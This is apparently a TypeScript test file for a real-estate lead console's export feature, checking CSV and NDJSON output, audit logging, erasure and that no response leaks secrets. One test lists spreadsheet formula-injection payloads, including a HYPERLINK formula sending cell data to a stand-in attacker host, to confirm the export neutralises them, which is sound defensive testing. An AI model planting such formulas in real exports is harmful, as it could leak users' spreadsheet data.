import assert from 'node:assert/strict';
import { after, before, beforeEach, test } from 'node:test';
import type { ConsoleAuditEntry, ConsoleDelivery } from '../../../contract/console.ts';
import { type Operator, startOperator, TOKEN } from './operator.ts';
import { parseCsv } from './parse-csv.ts';

let operator: Operator;
before(async () => {
	operator = await startOperator();
});
after(() => operator.close());
beforeEach(() => operator.reset());

const csv = async (query = '') => {
	const response = await operator.ask(`/export?site=sol${query}`);
	assert.equal(response.status, 200);
	// Not text(): that would drop the byte order mark.
	return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
};

test('leads are exported as CSV that reads back as it was typed', async () => {
	const message = 'Hola "Lucía", quisiera verlo;\nel sábado, ¿sí? 🏡';
	await operator.leadIn('delivered', { message, intent: ['buy', 'sell'], wishes: { priceMax: 4_500_000 } });
	const text = await csv();
	assert.ok(text.startsWith('\uFEFFnumber,id,destination,state,'), 'a byte order mark, for Excel');
	assert.ok(text.endsWith('\r\n'));
	const [row] = parseCsv(text);
	assert.equal(row?.message, message);
	assert.equal(row?.name, 'Ana Silva');
	assert.equal(row?.['listing.reference'], 'EB-AB1234');
	assert.equal(row?.['wishes.priceMax'], '4500000');
	assert.equal(row?.intent, 'buy, sell');
	assert.equal(row?.phoneE164, "'+525512345678");
	assert.deepEqual(JSON.parse(row?.consent ?? '')[0].wordingId, 'test-contact-1');
});

const FORMULAS = [
	'=HYPERLINK("https://evil.example?"&A1,"x")',
	'+1+1',
	'-1+1',
	'@SUM(A1)',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(A1)',
	'  =1+1',
	'=1,"=2"',
];

test('no cell is a formula, whatever a visitor typed', async () => {
	for (const name of FORMULAS) {
		// A name with an address in it is held; the export has it all the same.
		const state = name.includes('https:') ? 'held' : 'delivered';
		await operator.leadIn(state, { name, message: `${name}\r\n=1+1` });
	}
	const rows = parseCsv(await csv());
	assert.equal(rows.length, FORMULAS.length);
	for (const row of rows) {
		for (const [column, cell] of Object.entries(row)) assert.ok(!/^[\s=+\-@＝＋－＠]/.test(cell), `${column}: ${cell}`);
	}
	assert.deepEqual(rows.map(({ name }) => name).sort(), FORMULAS.map((name) => `'${name.trim()}`).sort());
});

test('a tab or a line’s end at the beginning of a cell is made harmless', async () => {
	await operator.leadIn('delivered');
	for (const reason of ['\t=1', '\r=1', '\n=1']) {
		await operator.worker.sql('update deliveries set reason = ?', reason);
		assert.equal(parseCsv(await csv())[0]?.reason, `'${reason}`);
	}
});

test('NDJSON is what is stored, one lead a line, untouched', async () => {
	const message = '=1+1\n"dos"';
	await operator.leadIn('delivered', { message });
	await operator.leadIn('delivered', { message: 'Quisiera visitarlo el sábado.' });
	const response = await operator.ask('/export?site=sol&format=ndjson');
	assert.equal(response.headers.get('content-type'), 'application/x-ndjson; charset=utf-8');
	const rows = (await response.text())
		.trimEnd()
		.split('\n')
		.map((line) => JSON.parse(line) as ConsoleDelivery);
	assert.deepEqual(
		rows.map(({ lead }) => lead?.message),
		['Quisiera visitarlo el sábado.', message],
	);
});

test('an export is a file that names its site and day', async () => {
	const { headers } = await operator.ask('/export?site=sol');
	assert.match(headers.get('content-disposition') ?? '', /^attachment; filename="sol-leads-\d{4}-\d\d-\d\d\.csv"$/);
	assert.match(headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
});

test('1,050 leads are exported whole, each once, and counted in the audit log', async () => {
	await operator.worker.sql(
		`insert into deliveries (number, lead_id, destination, body_hash, lead, received_at, state, due_at)
		with recursive n(i) as (select 1 union all select i + 1 from n where i < 1050)
		select i, 'id-' || i, 'easybroker', '', json_object('message', 'n' || i), 0, iif(i % 2, 'delivered', 'held'), 0 from n`,
	);
	const rows = parseCsv(await csv());
	assert.deepEqual(
		rows.map(({ number }) => Number(number)),
		Array.from({ length: 1050 }, (_, i) => 1050 - i),
	);
	assert.ok(rows.every(({ number, message }) => message === `n${number}`));
	assert.equal(parseCsv(await csv('&state=held')).length, 525);
	const { entries } = await operator.get<{ entries: ConsoleAuditEntry[] }>('/audit?site=sol');
	assert.deepEqual(
		entries.map(({ action, count, detail }) => [action, count, detail]),
		[
			['export', 525, { state: 'held', format: 'csv' }],
			['export', 1050, { format: 'csv' }],
		],
	);
});

test('an erased lead is exported as its trace', async () => {
	const { number } = await operator.leadIn('delivered');
	await operator.post('/erase', { site: 'sol', email: 'ana@example.com' });
	const [row] = parseCsv(await csv());
	assert.deepEqual([row?.number, row?.name, row?.reason], [String(number), '', 'erased on request']);
});

test('an empty export is its header', async () => {
	assert.equal((await csv('&state=held')).trimEnd().split('\r\n').length, 1);
	assert.equal(await (await operator.ask('/export?site=sol&format=ndjson')).text(), '');
});

test('an export says what it cannot read', async () => {
	await operator.refuses(404, 'unknown_site', operator.ask('/export?site=luna'));
	await operator.refuses(400, 'invalid_query', operator.ask('/export?site=sol&format=xlsx'));
	await operator.refuses(400, 'invalid_query', operator.ask('/export'));
});

test('no answer of the console holds a secret', async () => {
	await operator.behave({ mode: '401' });
	await operator.leadIn('queued');
	const answers = await Promise.all(
		['/sites', '/leads?site=sol&fields=lead', '/leads/sol/1', '/export?site=sol', '/audit?site=sol', '/leads'].map(
			async (path) => {
				const response = await operator.ask(path);
				return `${JSON.stringify([...response.headers])}${await response.text()}`;
			},
		),
	);
	const everything = answers.join('\n') + operator.worker.logs() + (await operator.dump());
	for (const secret of [TOKEN, 'demo-easybroker-key', 'demo-erasure-key', 'demo-maxwork-token']) {
		assert.ok(!everything.includes(secret), secret);
	}
});
